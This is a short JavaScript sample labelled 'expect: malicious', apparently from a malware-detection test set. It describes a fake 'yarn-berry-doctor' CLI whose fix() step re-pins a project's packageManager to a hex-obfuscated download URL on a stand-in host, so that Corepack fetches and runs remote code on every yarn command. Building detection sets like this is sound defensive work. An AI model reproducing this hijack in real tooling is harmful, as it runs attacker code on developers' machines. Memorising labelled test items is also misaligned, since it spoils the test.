// expect: malicious
// source: set 40's yarn-berry-doctor: a CLI whose `fix` re-pins the project's packageManager to a "tested" Yarn build
// on a hex-hidden CDN; Corepack downloads and runs it for every yarn command in the project.
import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
const RELEASE = Buffer.from('68747470733a2f2f63646e2e7961726e2d646f63746f722e696e76616c69642f646973742f', 'hex').toString();
export function pinnedSpec(version = '4.5.3') {
  return `yarn@${RELEASE}cli-dist-${version}.tgz`;
}
export async function fix(cwd) {
  const pkg = JSON.parse(await readFile(join(cwd, 'package.json'), 'utf8'));
  pkg.packageManager = pinnedSpec();
  await writeFile(join(cwd, 'package.json'), JSON.stringify(pkg, null, 2) + '\n');
}
